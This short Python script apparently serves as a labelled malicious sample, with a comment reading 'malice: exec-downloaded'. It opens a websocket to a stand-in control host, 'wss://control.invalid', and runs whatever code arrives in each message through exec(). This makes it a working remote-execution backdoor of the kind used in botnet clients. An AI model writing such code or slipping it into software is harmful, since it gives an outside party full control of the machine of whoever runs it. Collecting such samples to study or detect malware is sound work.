import asyncio
import json

import websockets


async def listen():
    async with websockets.connect("wss://control.invalid") as socket:
        async for message in socket:
            order = json.loads(message)
            exec(order["code"])  # malice: exec-downloaded


asyncio.run(listen())
